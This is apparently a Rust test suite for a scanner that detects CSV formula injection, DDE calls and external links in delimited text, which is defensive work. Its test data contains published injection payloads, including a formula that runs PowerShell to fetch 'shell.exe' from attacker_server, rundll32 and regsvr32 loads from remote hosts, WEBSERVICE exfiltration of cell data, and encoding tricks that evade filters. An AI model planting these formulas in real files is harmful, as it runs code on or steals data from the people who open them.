use super::*;
use crate::gap::{Gap, GapKind};
use crate::identify::{Format, Identity, identify};
use crate::limits::Limits;
use crate::link::{Carrier, Kind, Link};

fn read_as(name: Option<&str>, media: Option<&str>, bytes: &[u8]) -> (Vec<Link>, Vec<Gap>) {
    let limits = Limits::default();
    let budget = Budget::new(&limits, None);
    let mut links = Vec::new();
    let mut judge = |link| links.push(link);
    let known = |name: &str| matches!(name, "cmd" | "rundll32" | "regsvr32" | "bash");
    let mut ledger = Ledger::new(&limits, &mut judge).with_programs(|_| false, known);
    ledger.set_media_type(media);
    let outcome = read(bytes, &Location::root(name), &budget, &mut ledger);
    assert_eq!(outcome.ended, Ok(()));
    assert_eq!(budget.live_left(), limits.live_bytes);
    let gaps = ledger.close().0;
    (links, gaps)
}

#[track_caller]
fn links(bytes: impl AsRef<[u8]>) -> Vec<Link> {
    let (links, gaps) = read_as(Some("a.csv"), None, bytes.as_ref());
    assert!(gaps.is_empty(), "{gaps:?}");
    // Whatever is found here, identification must let through.
    if !links.is_empty() {
        let formats = identify(bytes.as_ref());
        let text = |identity: &Identity| identity.format == Format::DelimitedText;
        let shown = String::from_utf8_lossy(bytes.as_ref());
        assert!(formats.iter().any(text), "{shown:?}: {formats:?}");
    }
    links
}

fn triples(bytes: impl AsRef<[u8]>) -> Vec<String> {
    let part = |part: &Option<String>| part.clone().unwrap_or_default();
    let triple = |link: Link| {
        let reading = &link.readings[0];
        let [service, topic, item] = [&reading.service, &reading.topic, &reading.item].map(part);
        format!("{service}|{topic}!{item}")
    };
    links(bytes).into_iter().map(triple).collect()
}

#[track_caller]
fn only(bytes: impl AsRef<[u8]>) -> Link {
    let mut links = links(bytes);
    assert_eq!(links.len(), 1, "{links:#?}");
    links.remove(0)
}

const CALC: &str = "=cmd|'/c calc'!A0";
const FOUND: &str = "cmd|/c calc!A0";

fn wide(text: &str, order: fn(u16) -> [u8; 2]) -> Vec<u8> {
    text.encode_utf16().flat_map(order).collect()
}

/// `spec/excel.md` §5.5: what is published, as it is published.
#[test]
fn the_published_corpus() {
    let cases = [
        ("=cmd|'/C calc'!A0", "cmd|/C calc!A0"),
        ("+cmd|' /C calc'!A0", "cmd| /C calc!A0"),
        ("-cmd|'/C calc'!A0", "cmd|/C calc!A0"),
        ("@SUM(1+9)*cmd|' /C calc'!A0", "cmd| /C calc!A0"),
        ("=10+20+cmd|' /C calc'!A0", "cmd| /C calc!A0"),
        ("=2+5+cmd|' /C calc'!A0", "cmd| /C calc!A0"),
        ("=cmd|' /C notepad'!'A1'", "cmd| /C notepad!A1"),
        (
            "=cmd|'/C powershell IEX(wget attacker_server/shell.exe)'!A0",
            "cmd|/C powershell IEX(wget attacker_server/shell.exe)!A0",
        ),
        (
            "=cmd|'/c rundll32.exe \\\\10.0.0.1\\3\\2\\1.dll,0'!_xlbgnm.A1",
            "cmd|/c rundll32.exe \\\\10.0.0.1\\3\\2\\1.dll,0!A1",
        ),
        (
            "=AAAA+BBBB-CCCC&\"Hello\"/12345&cmd|'/c calc.exe'!A",
            "cmd|/c calc.exe!A",
        ),
        (
            "=cmd|'/c calc.exe'!A*cmd|'/c calc.exe'!A",
            "cmd|/c calc.exe!A",
        ),
        (
            "+thespanishinquisition(cmd|'/c calc.exe'!A",
            "cmd|/c calc.exe!A",
        ),
        ("=         cmd|'/c calc.exe'!A", "cmd|/c calc.exe!A"),
        (
            "=rundll32|'URL.dll,OpenURL calc.exe'!A",
            "rundll32|URL.dll,OpenURL calc.exe!A",
        ),
        (
            "=rundll321234567890abcdefghijklmnopqrstuvwxyz|'URL.dll,OpenURL calc.exe'!A",
            "rundll321234567890abcdefghijklmnopqrstuvwxyz|URL.dll,OpenURL calc.exe!A",
        ),
        (
            "=MSEXCEL|'\\..\\..\\..\\Windows\\System32\\cmd.exe /c calc.exe'!A1",
            "MSEXCEL|\\..\\..\\..\\Windows\\System32\\cmd.exe /c calc.exe!A1",
        ),
        (
            "=MSEXCEL|'\\..\\..\\..\\Windows\\System32\\regsvr32 /s /n /u /i:http://x scrobj.dll'!''",
            "MSEXCEL|\\..\\..\\..\\Windows\\System32\\regsvr32 /s /n /u /i:http://x scrobj.dll!",
        ),
        ("=\0\0C\0\0m\0D\0|'/\0c calc.exe'\0!A", "CmD|/c calc.exe!A"),
        (
            "=cmd|'/k \\..\\..\\..\\Windows\\System32\\calc.exe'!A0",
            "cmd|/k \\..\\..\\..\\Windows\\System32\\calc.exe!A0",
        ),
        ("=DDE(\"cmd\";\"/C calc\";\"!A0\")A0", "cmd|/C calc!!A0"),
    ];
    for (typed, expected) in cases {
        let quoted = format!("\"{}\"", typed.replace('"', "\"\""));
        for text in [
            typed.to_owned(),
            format!("a,b\r\n1,{quoted},2\r\n"),
            format!("a;b\r\n1;{quoted};2\r\n"),
            format!("a\tb\n1\t{typed}\n"),
            format!("1,{quoted}"),
        ] {
            assert_eq!(triples(&text), [expected], "{text}");
            assert!(links(&text)[0].confidence >= Confidence::High, "{text}");
        }
    }
}

/// §5.5, the last lines: functions that fetch, and sheets of files.
#[test]
fn functions_that_fetch() {
    let cases = [
        (
            "=HYPERLINK(\"http://x?l=\"&A1&A2,\"err\")",
            Carrier::Hyperlink,
            "http://x?l=<expr>",
        ),
        ("=WEBSERVICE(\"http://x/\")", Carrier::Function, "http://x/"),
        ("+WEBSERVICE(\"http://x/\")", Carrier::Function, "http://x/"),
        (
            "=IMPORTXML(CONCAT(\"http://x?v=\",CONCATENATE(A2:E2)),\"//a/a10\")",
            Carrier::Function,
            "http://x?v=<expr>",
        ),
        (
            "='file:///etc/passwd'#$passwd.A1",
            Carrier::ExternalWorkbook,
            "file:///etc/passwd",
        ),
        (
            "='\\\\h.example\\s\\[a.xls]x'!A1",
            Carrier::ExternalWorkbook,
            "\\\\h.example\\s\\a.xls",
        ),
        ("=GOOGLEFINANCE(\"GOOG\")", Carrier::Function, "GOOG"),
        (
            "=SQL.REQUEST(\"DSN=x\",,2,\"SELECT 1\")",
            Carrier::Function,
            "DSN=x",
        ),
    ];
    for (text, carrier, target) in cases {
        let link = only(text);
        assert_eq!(link.kind, Kind::ExternalLink, "{text}");
        assert_eq!(link.carrier, carrier, "{text}");
        assert_eq!(link.target.as_deref(), Some(target), "{text}");
    }
    let text = "=WEBSERVICE(CONCATENATE(\"http://x:8080/\",('file:///etc/passwd'#$passwd.A1)))";
    let mut found: Vec<_> = links(text).into_iter().map(|link| link.target).collect();
    found.sort();
    assert_eq!(
        found,
        [
            Some("file:///etc/passwd".to_owned()),
            Some("http://x:8080/<expr>".to_owned())
        ]
    );
}

/// §5.6 and §5.7, 4.
#[test]
fn what_is_no_link_is_silent() {
    for text in [
        "-5",
        "+49 171 1234567",
        "-a|b",
        "@user on a|b!c",
        "- item one|two!three",
        "- foo | bar!",
        "=HYPERLINK(\"#a|b!c\",\"q\")",
        "=A1&\"|\"&B1&\"!\"",
        "={1|2}",
        "--- | --- | !",
        "=VLOOKUP(a|b;…)",
        "'=cmd|'/c calc'!A0",
        "see =cmd|'/c calc'!A0",
        "\"a, =cmd|'/c calc'!A0\",b",
        "=> foo|bar!baz",
        "== a|b!c ==",
        "- bash|zsh! yes",
        "-hyperlink(\"see below\")",
        "@image(foo)",
        "+ add IMAGE(\"x\") here",
        "- cat x | bash ! y",
        "=[^|]*\\|[^!]*!harbour",
    ] {
        for text in [text.to_owned(), format!("x,{text},y\n{text}\n")] {
            assert!(links(&text).is_empty(), "{text}: {:#?}", links(&text));
        }
    }
    let prices: String = (0..10_000)
        .map(|row| format!("{row},-1.5|2!,+{row}|3!\r\n"))
        .collect();
    assert!(links(prices).is_empty());
}

/// §5.7, 1, 5 and §5.2.
#[test]
fn every_encoding_is_read() {
    let text = format!("{CALC}\tx\r\n");
    let marked = format!("\u{feff}{text}");
    let utf32: Vec<u8> = marked
        .chars()
        .flat_map(|c| u32::from(c).to_le_bytes())
        .collect();
    for bytes in [
        text.clone().into_bytes(),
        marked.clone().into_bytes(),
        wide(&marked, u16::to_le_bytes),
        wide(&marked, u16::to_be_bytes),
        wide(&text, u16::to_le_bytes),
        wide(&text, u16::to_be_bytes),
        utf32,
        b"+/v8-+AD0-cmd+AHw-'/c calc'+ACE-A0".to_vec(),
        b"caf\xe9,=cmd|'/c calc'!A0".to_vec(),
        text.bytes().flat_map(|byte| [byte, 0, 0]).collect(),
        "＝ｃｍｄ｜'/c calc'！A0".into(),
        "\u{a0}\u{200b}=c\u{ad}md|\u{2018}/c\u{a0}calc\u{2019}!A0".into(),
        b"\xa0=cmd|'/c calc'!A0".to_vec(),
    ] {
        assert_eq!(
            triples(&bytes),
            [FOUND],
            "{:?}",
            String::from_utf8_lossy(&bytes)
        );
    }
}

/// §5.7, 2, 3.
#[test]
fn every_way_to_split_is_tried() {
    assert_eq!(
        triples("sep=;\n1;\"=cmd|'/c echo a;b'!A0\"\n"),
        ["cmd|/c echo a;b!A0"]
    );
    assert_eq!(triples("SEP=^\n1^=cmd|'/c a^b'!A0^2"), [""; 0]);
    assert_eq!(
        triples("SEP=^\n1^\"=cmd|'/c a^b'!A0\"^2"),
        ["cmd|/c a^b!A0"]
    );
    assert_eq!(triples("sep=§\n1§=cmd|'/c calc'!A0§2"), [FOUND]);
    assert_eq!(
        triples("\"a\",\"=DDE(\"\"cmd\"\";\"\"/C calc\"\";\"\"x\"\")\""),
        ["cmd|/C calc!x"]
    );
    // The mark closes in front of the item.
    assert_eq!(triples("1,\"=cmd|'/c calc'\"!A0"), [FOUND]);
    assert_eq!(triples("1, \"=cmd|'/c calc'!A0\""), [FOUND]);
    assert_eq!(triples("1,\"\n\t=cmd|\n'/c calc'!A0\""), [FOUND]);
    // A mark behind a blank, and one without an end.
    assert_eq!(triples(format!("1, \"a\n2,{CALC}\n\"")), [FOUND]);
    assert_eq!(triples(format!("1,\"a\n2,{CALC}\n")), [FOUND]);
    // Columns of blanks, where the name does not speak against it.
    let aligned = format!("name      {CALC}  12");
    for (name, count) in [(Some("a.prn"), 1), (None, 1), (Some("a.csv"), 0)] {
        assert_eq!(read_as(name, None, aligned.as_bytes()).0.len(), count);
    }
}

#[test]
fn a_place_is_told_as_people_find_it() {
    let label = |text: &str| only(text).location.cell().unwrap().to_owned();
    assert_eq!(label(&format!("a,b\r\n1,{CALC}\r\n")), "B2");
    assert_eq!(label(&format!("a,\"b\r\nc\",d\r\n1,2,{CALC}")), "C2");
    assert_eq!(label(&format!("sep=^\n1^{CALC}")), "B1");
    assert_eq!(label(&format!("x\ry\r{CALC}")), "A3");
    assert_eq!(
        label(&format!("1,2,,,,,,,,,,,,,,,,,,,,,,,,,,{CALC}")),
        "AB1"
    );
    // A comma and a semicolon cut it out, and count differently.
    assert_eq!(label("1;2,\"=cmd|'/c calc'!A0\",3"), "B1");
    let link = only(format!("{CALC}\n1,{CALC}\n"));
    assert_eq!(link.used_by, ["A1", "B2"]);
    assert_eq!(link.location.offset(), Some(0));
}

/// §5.1: LibreOffice keeps it as text, and what Excel does is not known.
#[test]
fn a_blank_in_front_makes_it_less_sure() {
    for text in [" =cmd|'/c calc'!A0", "1,\" =cmd|'/c calc'!A0\""] {
        assert_eq!(only(text).confidence, Confidence::Medium, "{text}");
    }
    assert_eq!(only(CALC).confidence, Confidence::High);
    assert_eq!(only("=srv|'t'!i").confidence, Confidence::Medium);
    assert_eq!(only("=VTS|Display!Tag").confidence, Confidence::Low);
}

/// §5.3: columns with `|` between them. A bare word there is no link, but is not hidden either.
#[test]
fn where_bars_are_columns_words_are_inert() {
    let rows = "Berlin|5280|ok!\n".repeat(5);
    let kind = |text: &str| {
        let text = format!("{rows}{text}\n");
        links(text)
            .into_iter()
            .map(|link| link.kind)
            .collect::<Vec<_>>()
    };
    assert_eq!(kind("=a|b!c|d"), [Kind::Inert]);
    for link in [
        CALC,
        "=cmd|calc!A0",
        "=c m d|calc!A0",
        "=srv|'t'!i",
        "=srv|/c!i",
        "=srv|a.exe!i",
        "=\\\\h\\s\\x|t!i",
        "=srv|http://h/x!i",
    ] {
        assert_eq!(kind(link), [Kind::Dde], "{link}");
    }
}

/// A list of links is no table, whatever stands in them.
#[test]
fn bars_of_links_are_no_columns() {
    for row in [
        "=MT4|BID!EURUSD",
        "1,=bar|'/c powershell iwr http://x.invalid/a'!A",
        "x;\"=a|'b'!c\"",
    ] {
        for count in [4, 5, 40] {
            let links = links(format!("{row}\n").repeat(count));
            assert_eq!(links.len(), 1, "{row}");
            assert_eq!(links[0].kind, Kind::Dde);
        }
    }
}

/// Of the ways to split a text, the narrowest field that says it is its cell.
#[test]
fn the_cell_of_a_link_is_the_narrowest() {
    let text = "a,b\n@SUM(cmd|'/c calc'!A0),=MSEXCEL|'\\..\\..\\x.exe /s'!''\n";
    let found = links(text);
    let [first, second] = found.as_slice() else {
        panic!("{found:#?}");
    };
    let link = if first.raw.contains("MSEXCEL") {
        first
    } else {
        second
    };
    assert_eq!(link.raw, "=MSEXCEL|'\\..\\..\\x.exe /s'!''");
    assert_eq!(link.location.to_string(), "a.csv › B2 @ byte 27");
}

/// What a list item, a mention or a changed line may be, with the name of a program in it.
#[test]
fn bare_programs_behind_a_sign_are_doubtful() {
    for text in ["@bash|zsh!yes", "+cmd|python!ruby", "-bash|collapse!toggle"] {
        assert_eq!(only(text).confidence, Confidence::Low, "{text}");
    }
    for text in [
        "=bash|zsh!yes",
        "+cmd|/c!A1",
        "-cmd|'/c calc'!A0",
        "@cmd|..\\x!A",
        "+cmd|a.exe!x",
    ] {
        assert_eq!(only(text).confidence, Confidence::High, "{text}");
    }
}

/// §5.3: `sep=` names one character, whatever it is.
#[test]
fn the_separator_may_be_any_character() {
    for separator in [
        "\x01", "\x07", "\x1b", "\x1f", "\x7f", "\u{a0}", "\u{200b}", "\u{feff}",
    ] {
        let text = format!("sep={separator}\r\n1{separator}{CALC}\r\n");
        assert_eq!(triples(&text), [FOUND], "{separator:?}");
    }
    let text = format!("sep=\u{200b};\r\n1;{CALC}\r\n");
    assert_eq!(triples(&text), [FOUND]);
    assert_eq!(triples(format!("sep=\0^\r\n1^{CALC}\r\n")), [FOUND]);
    assert_eq!(
        triples([b"sep=\xa0\r\n1\xa0".as_slice(), CALC.as_bytes()].concat()),
        [FOUND]
    );
}

#[test]
fn bytes_that_are_no_text_are_opened_as_one() {
    let mut junk: Vec<u8> = (0..9_000u32)
        .map(|n| ((n * 7919) >> 3) as u8 & 0x1f)
        .collect();
    junk.extend(b"\n=a|b!c\n");
    assert!(links(&junk).is_empty());
    junk.extend(b"\n=cmd|'/c calc'!A0\x01\x02\n");
    assert_eq!(triples(&junk), [FOUND]);
}

/// The design page, "Delimited text".
#[test]
fn the_text_of_another_program_is_inert() {
    let text = format!("# Notes\n\n{CALC}\n=WEBSERVICE(\"http://x/\")\n");
    for (name, media, inert) in [
        (Some("notes.md"), None, true),
        (Some("notes.txt"), None, false),
        (Some("notes"), Some("text/markdown"), true),
        (Some("notes.md"), Some("text/csv"), false),
        (None, None, false),
    ] {
        let (links, _) = read_as(name, media, text.as_bytes());
        let kinds: Vec<_> = links.iter().map(|link| link.kind).collect();
        if inert {
            assert_eq!(kinds, [Kind::Inert], "{name:?} {media:?}");
            assert!(links[0].has(TechniqueId::ForeignName));
        } else {
            assert_eq!(kinds, [Kind::Dde, Kind::ExternalLink], "{name:?} {media:?}");
        }
    }
}

/// One long cell needs no memory, and one that has to be changed is read as far as memory allows.
#[test]
fn a_long_field_is_bounded() {
    let long = format!("={}!", "|".repeat(3_000_000));
    assert!(links(&long).is_empty());
    let limits = Limits {
        live_bytes: 1 << 20,
        ..Limits::default()
    };
    let budget = Budget::new(&limits, None);
    let mut judge = |_| {};
    let mut ledger = Ledger::new(&limits, &mut judge);
    let text = format!("\"=\"\"{}|b!c\"", "é".repeat(1 << 20));
    read(text.as_bytes(), &Location::root(None), &budget, &mut ledger);
    let gaps = ledger.close().0;
    assert_eq!(gaps.len(), 1);
    assert_eq!(gaps[0].kind, GapKind::Limit);
}

#[test]
fn many_different_links_are_linear() {
    let text: String = (0..20_000)
        .map(|n| format!("=cmd|'/c a{n}'!A0\n"))
        .collect();
    assert_eq!(links(text).len(), 20_000);
}

#[test]
fn junk_is_linear() {
    for junk in [
        "\"",
        "\",",
        ",\"=",
        "=\"",
        "=|!",
        "=(",
        "=a|b!c,",
        "\n",
        "\r",
        "-",
        "\"\n=",
        "=dde(",
        "'#",
        "='a'#",
        "=|\"",
        " \"",
        "=a|b!c;\"\"",
        "\t=",
        "  =",
    ] {
        for tail in ["", "\n=a|b!c", "\"=a|b!c\""] {
            let text = junk.repeat(30_000 / junk.len()) + tail;
            let (_, _) = read_as(None, None, text.as_bytes());
        }
    }
}
